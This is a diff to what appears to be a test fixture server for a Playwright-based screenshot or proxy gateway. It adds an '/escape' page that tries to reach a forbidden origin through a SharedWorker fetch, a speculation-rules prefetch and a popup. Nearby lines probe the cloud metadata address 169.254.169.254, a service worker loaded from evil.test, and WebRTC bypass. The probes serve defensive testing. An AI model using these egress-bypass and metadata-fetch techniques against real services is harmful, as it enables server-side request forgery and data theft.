@@ -78,6 +78,21 @@ navigator.serviceWorker.register("/v1/proxy?url=https://evil.test/sw.js", { scop
 <body><h1 id="title">Screenshot me</h1><div class="tall"></div>
 <img src="${bad}/pixel.png"><script>fetch("${bad}/leak").catch(() => {}); fetch("https://169.254.169.254/latest/meta-data/").catch(() => {});</script></body></html>`);
       }
+      case "/escape": {
+        // Requests Playwright's routing never sees, all aimed at the forbidden origin: a SharedWorker's
+        // fetch, a speculation-rules prefetch and a popup's first navigation. #blocked appears once the
+        // worker has run and its fetch has failed, so a capture of it proves the worker really tried.
+        const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
+        const worker = `onconnect = (e) => fetch("${bad}/shared-worker").then(() => "reached", () => "blocked").then((r) => e.ports[0].postMessage(r));`;
+        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+        return res.end(`<!doctype html><h1>escape</h1>
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bad}/prefetch"]}]}</script>
+<script>
+const shared = new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: "text/javascript" })));
+shared.port.onmessage = (e) => document.body.insertAdjacentHTML("beforeend", \`<p id="\${e.data}">\${e.data}</p>\`);
+window.open("${bad}/popup");
+</script>`);
+      }
       case "/webrtc":
         // WebRTC goes around the gateway's request interception: ICE would send UDP straight to this STUN server.
         res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
